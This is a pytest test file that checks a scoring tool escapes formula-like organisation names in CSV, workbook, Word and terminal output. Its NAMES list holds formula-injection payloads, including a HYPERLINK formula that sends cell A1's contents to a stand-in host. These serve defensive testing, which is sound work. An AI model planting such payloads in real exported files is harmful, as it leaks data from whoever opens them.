"""A name that looks like a formula stays a name: in CSV, in workbooks, in Word, on the screen."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import polars as pl
import pytest

from tests.cli.conftest import Merilo
from tests.folder.small_folder import build, swap
from tests.render.recalculated import cells
from tests.render.word_file import names, part

NAMES = ['=HYPERLINK("http://a.test/?"&A1;"x")', "+1", "@SUM(A1)", "-2+3", "\t=1+1", "＝1+1"]


@pytest.fixture(params=NAMES)
def named(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, str]:
    """The small assessment with one organisation of that name."""
    folder, name = build(tmp_path / "in"), str(request.param)
    quoted = '"' + name.replace('"', '""') + '"'
    swap("organisations.csv", "Центр «Забота»", quoted)(folder)
    return folder, name.strip()


def test_in_csv_it_is_made_text(merilo: Merilo, named: tuple[Path, str]) -> None:
    folder, name = named
    assert merilo("score", folder, "--format", "csv").code == 0
    with (folder / "out" / "rating.csv").open(encoding="utf-8-sig", newline="") as file:
        written = {row["organisation"]: row["name"] for row in csv.DictReader(file)}
    assert written["7701"] == (name if name == "+1" else f"'{name}"), "a number is no formula"
    assert written["7703"] == "Поликлиника № 3"


def test_in_parquet_and_json_it_is_as_it_was(merilo: Merilo, named: tuple[Path, str]) -> None:
    folder, name = named
    found = merilo("score", folder, "--json").json["rating"]
    assert name in [row["name"] for row in found]
    assert name in pl.read_parquet(folder / "out" / "rating.parquet")["name"].to_list()
    assert json.dumps(name, ensure_ascii=False) in merilo("score", folder, "--json").out


def test_in_workbooks_it_is_a_string_and_no_formula(merilo: Merilo, named: tuple[Path, str]) -> None:
    folder, name = named
    merilo("score", folder, "--format", "xlsx")
    merilo("report", folder, "--format", "xlsx")
    for book in ("tables.xlsx", "report.xlsx"):
        path = folder / "out" / book
        assert name in [cell for sheet in cells(path).values() for row in sheet for cell in row], book
        formulas = [
            element.text or ""
            for sheet in names(path, "xl/worksheets/sheet")
            for element in part(path, sheet).iter("{http://schemas.openxmlformats.org/spreadsheetml/2006/main}f")
        ]
        assert not [formula for formula in formulas if "HYPERLINK" in formula or "SUM(A1)" in formula], book
        assert not [entry for entry in names(path) if "externalLink" in entry]


def test_in_word_it_is_plain_text(merilo: Merilo, named: tuple[Path, str]) -> None:
    folder, name = named
    assert merilo("report", folder, "--format", "docx").code == 0
    body = part(folder / "out" / "report.docx", "word/document.xml")
    space = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    told = " ".join("".join(one.text or "" for one in line.iter(f"{space}t")) for line in body.iter(f"{space}p"))
    plain = " ".join(told.replace("\u00a0", " ").replace("\u2060", "").replace("−", "-").split())
    assert name in plain
    fields = [one.text or "" for one in body.iter(f"{space}instrText")]
    fields += [one.get(f"{space}instr") or "" for one in body.iter(f"{space}fldSimple")]
    assert not [field for field in fields if "a.test" in field or "SUM" in field]


def test_on_the_screen_it_takes_one_cell(merilo: Merilo, named: tuple[Path, str]) -> None:
    lines = merilo("score", named[0]).out.splitlines()
    assert len({line.count("\t") for line in lines}) == 1
